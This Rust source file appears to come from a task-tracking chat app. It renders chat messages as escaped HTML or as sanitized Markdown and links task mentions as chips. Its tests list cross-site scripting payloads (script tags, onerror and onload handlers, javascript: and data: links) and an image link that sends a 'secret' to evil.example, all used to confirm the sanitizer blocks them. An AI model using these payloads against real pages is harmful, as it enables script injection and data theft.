//! What was said, as HTML that a page takes as it is: word for word what a person or a rule wrote, and as Markdown what a model did.

use std::borrow::Cow;

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};

use crate::api::tasks::TaskRow;
use crate::domain::approval;
use crate::domain::conversation::Message;
use crate::domain::decision::Engine;
use crate::domain::id::TaskNumber;
use crate::domain::mention::pieces;
use crate::domain::task::{Status, Task};
use crate::words::chat as words;

/// The elements that Markdown may come to.
const ELEMENTS: [&str; 12] = ["a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "strong", "ul"];
/// Where a link may lead.
const SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// The HTML of a message, without what the page shows in another form beside it: the tasks in `listed`, and the hint at what answers
/// a question. Every `#42` is a link to that task and shows what became of it, where it is one of `tasks`.
pub fn said(message: &Message, listed: &[TaskRow], tasks: &[Task]) -> String {
    let mut text = Cow::from(&message.text);
    if !listed.is_empty() {
        text = without_entries(&text, listed).into();
    }
    if message.approval.is_some() {
        // Its buttons say so.
        text = approval::without_hint(&text).to_owned().into();
    }
    match message.engine {
        Some(Engine::Openai | Engine::Gemini | Engine::Compatible) => marked(&text, tasks),
        Some(Engine::Rules | Engine::External) | None => plain(&text, tasks),
    }
}

/// Text as it stands.
fn plain(text: &str, tasks: &[Task]) -> String {
    let chips = Chips::new(text, tasks);
    let mut all = String::with_capacity(text.len());
    pieces(text, |piece| match piece {
        Ok(text) => push_escaped(&mut all, text),
        Err(number) => all += &chips.html(number),
    });
    all
}

/// Markdown (CommonMark), as far as a chat needs it: headings are paragraphs in bold, of images there are the words, of links the
/// host, and HTML is text.
pub fn marked(text: &str, tasks: &[Task]) -> String {
    let chips = Chips::new(text, tasks);
    let mut events = Vec::new();
    let (mut aside, mut ends) = (false, Vec::new());
    for event in Parser::new_ext(text, Options::ENABLE_STRIKETHROUGH) {
        match event {
            Event::Start(Tag::Heading { .. }) => {
                events.extend([Event::Start(Tag::Paragraph), Event::Start(Tag::Strong)])
            }
            Event::End(TagEnd::Heading(_)) => {
                events.extend([Event::End(TagEnd::Strong), Event::End(TagEnd::Paragraph)]);
            }
            Event::Start(Tag::Image { .. } | Tag::HtmlBlock) | Event::End(TagEnd::Image | TagEnd::HtmlBlock) => {}
            Event::Start(Tag::Link { ref dest_url, .. }) => {
                let host = host(dest_url);
                ends.push(host.clone());
                if host.is_some() {
                    aside = true;
                    events.push(event);
                }
            }
            Event::End(TagEnd::Link) => {
                if let Some(host) = ends.pop().flatten() {
                    aside = false;
                    events.extend([Event::End(TagEnd::Link), Event::Text(format!(" ({host})").into())]);
                }
            }
            Event::Start(Tag::CodeBlock(_)) => {
                aside = true;
                events.push(event);
            }
            Event::End(TagEnd::CodeBlock) => {
                aside = false;
                events.push(event);
            }
            Event::SoftBreak => events.push(Event::HardBreak),
            Event::Html(text) | Event::InlineHtml(text) => events.push(Event::Text(text)),
            Event::Text(part) if !aside => pieces(&part, |piece| match piece {
                Ok(part) => events.push(Event::Text(CowStr::from(part.to_owned()))),
                Err(number) => events.push(Event::InlineHtml(chips.html(number).into())),
            }),
            other => events.push(other),
        }
    }
    let mut all = String::with_capacity(text.len() * 2);
    html::push_html(&mut all, events.into_iter());
    // The events above make nothing else; whatever a later parser may make of them, nothing else gets to a page.
    ammonia::Builder::new()
        .tags([ELEMENTS.as_slice(), &["pre", "span"]].concat().into_iter().collect())
        .allowed_classes(
            [("a", ["task-chip"].into()), ("span", ["task-chip__title", "task-chip__state"].into())].into(),
        )
        .tag_attributes([("a", ["href"].into()), ("ol", ["start"].into())].into())
        .generic_attributes([].into())
        .url_schemes(SCHEMES.into())
        .link_rel(Some("noopener noreferrer nofollow"))
        .clean(&all)
        .to_string()
}

/// Whom a link leads to; `None` of what is no address of another place.
fn host(address: &str) -> Option<String> {
    if let Some(to) = address.strip_prefix("mailto:") {
        return Some(to.to_owned());
    }
    let parsed: http::Uri = address.parse().ok()?;
    let scheme = parsed.scheme_str().filter(|scheme| SCHEMES.contains(scheme));
    scheme.and(parsed.host()).map(str::to_owned)
}

/// The tasks that a text speaks of, as they are now, each with whether the text says its title.
struct Chips<'a>(Vec<(&'a Task, bool)>);

impl<'a> Chips<'a> {
    fn new(text: &str, tasks: &'a [Task]) -> Self {
        let text = if tasks.is_empty() { String::new() } else { text.to_lowercase() };
        Self(tasks.iter().map(|task| (task, text.contains(&task.title.as_str().to_lowercase()))).collect())
    }

    /// A mention of a task. What the text does not say itself stands beside the number.
    fn html(&self, number: &str) -> String {
        let known = TaskNumber::parse(number).ok();
        let known = known.and_then(|number| self.0.iter().find(|(task, _)| task.task_id == number));
        let Some((task, told)) = known else { return format!("<a href=\"/tasks/{number}\">#{number}</a>") };
        let state = match (&task.deleted_at, task.status) {
            (Some(_), _) => Some(words::IN_THE_BIN_NOW),
            (None, Status::Completed) => Some(words::DONE_NOW),
            (None, Status::Pending) => None,
        };
        let title = (!told).then_some(task.title.as_str());
        let mut html = format!("<a class=\"task-chip\" href=\"/tasks/{number}\">#{number}");
        for (class, part) in [("task-chip__title", title), ("task-chip__state", state)] {
            if let Some(part) = part {
                html += &format!(" <span class=\"{class}\">");
                push_escaped(&mut html, part);
                html += "</span>";
            }
        }
        html + "</a>"
    }
}

fn push_escaped(all: &mut String, text: &str) {
    for c in text.chars() {
        match c {
            '&' => all.push_str("&amp;"),
            '<' => all.push_str("&lt;"),
            '>' => all.push_str("&gt;"),
            '"' => all.push_str("&quot;"),
            '\'' => all.push_str("&#39;"),
            other => all.push(other),
        }
    }
}

/// The text without the entries of a list that the card shows.
fn without_entries(text: &str, rows: &[TaskRow]) -> String {
    let shown = |line: &str| {
        let entry = line.trim_start().starts_with(|c: char| c.is_ascii_digit() || "-*•".contains(c));
        entry && rows.iter().any(|row| line.contains(&format!("(#{})", row.task.task_id)))
    };
    text.lines().filter(|line| !shown(line)).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_person_or_a_rule_wrote_stands_as_it_is() {
        let text = "buy *2* plates & <b>cups</b>\n# not a heading, see #7 and #";
        let html =
            "buy *2* plates &amp; &lt;b&gt;cups&lt;/b&gt;\n# not a heading, see <a href=\"/tasks/7\">#7</a> and #";
        assert_eq!(plain(text, &[]), html);
    }

    #[test]
    fn a_mention_shows_what_the_text_does_not_say() {
        let task = |status: &str, deleted: Option<&str>| -> Task {
            let at = "2026-03-11T09:30:00Z";
            serde_json::from_value(serde_json::json!({
                "task_id": 7, "title": "Oat <milk>", "description": null, "status": status, "priority": "none", "due": null,
                "project": null, "tags": [], "recurrence": null, "version": 1, "created_at": at, "updated_at": at,
                "completed_at": null, "deleted_at": deleted,
            }))
            .unwrap()
        };
        let open = task("pending", None);
        let chip = |inside: &str| format!("<a class=\"task-chip\" href=\"/tasks/7\">#7{inside}</a>");
        let title = " <span class=\"task-chip__title\">Oat &lt;milk&gt;</span>";
        let state = |state: &str| format!(" <span class=\"task-chip__state\">{state}</span>");
        assert_eq!(plain("#7", std::slice::from_ref(&open)), chip(title));
        assert_eq!(
            plain("Added oat <milk> (#7)", std::slice::from_ref(&open)),
            format!("Added oat &lt;milk&gt; ({})", chip(""))
        );
        assert_eq!(
            plain("milk #7", &[task("completed", None)]),
            format!("milk {}", chip(&(title.to_owned() + &state("done"))))
        );
        let binned = task("completed", Some("2026-03-11T09:30:00Z"));
        assert_eq!(plain("Oat <milk> #7", &[binned]), format!("Oat &lt;milk&gt; {}", chip(&state("in the bin"))));
        assert_eq!(plain("#8", std::slice::from_ref(&open)), "<a href=\"/tasks/8\">#8</a>");
        // The same behind a model's words.
        let html = marked("*milk* #7", &[open]);
        assert_eq!(
            html,
            format!(
                "<p><em>milk</em> {}</p>\n",
                chip(title).replace("\">#7", "\" rel=\"noopener noreferrer nofollow\">#7")
            )
        );
    }

    #[test]
    fn what_a_model_wrote_is_markdown() {
        for (text, html) in [
            ("**Done**, *really*", "<p><strong>Done</strong>, <em>really</em></p>\n"),
            ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
            ("# Plan", "<p><strong>Plan</strong></p>\n"),
            ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
            ("3. c", "<ol start=\"3\">\n<li>c</li>\n</ol>\n"),
            ("`a #1`", "<p><code>a #1</code></p>\n"),
            ("```rust\n#1 <i>\n```", "<pre><code>#1 &lt;i&gt;\n</code></pre>\n"),
            (
                "Added milk (#42)",
                "<p>Added milk (<a href=\"/tasks/42\" rel=\"noopener noreferrer nofollow\">#42</a>)</p>\n",
            ),
            (
                "[here](https://example.org/a)",
                "<p><a href=\"https://example.org/a\" rel=\"noopener noreferrer nofollow\">here</a> (example.org)</p>\n",
            ),
        ] {
            assert_eq!(marked(text, &[]), html, "{text}");
        }
    }

    #[test]
    fn nothing_that_runs_or_loads_or_misleads_gets_through() {
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![secret](https://evil.example/?q=secret)",
            "[x](javascript:alert(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](//evil.example/)",
            "[x](/settings)",
            "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>",
            "[![a](https://evil.example/a.png)](vbscript:x)",
            "<svg/onload=alert(1)>",
            "<style>*{display:none}</style>",
            "[a]: javascript:alert(1)\n\n[a]",
        ] {
            let html = marked(text, &[]);
            let tags: Vec<&str> = html.match_indices('<').map(|(at, _)| &html[at..]).collect();
            let harmless = ["<p>", "</p>", "<br>"];
            assert!(tags.iter().all(|tag| harmless.iter().any(|it| tag.starts_with(it))), "{text}: {html}");
        }
        assert!(marked("[bank](https://evil.example)", &[]).contains("</a> (evil.example)"), "whoever it says it is");
    }
}
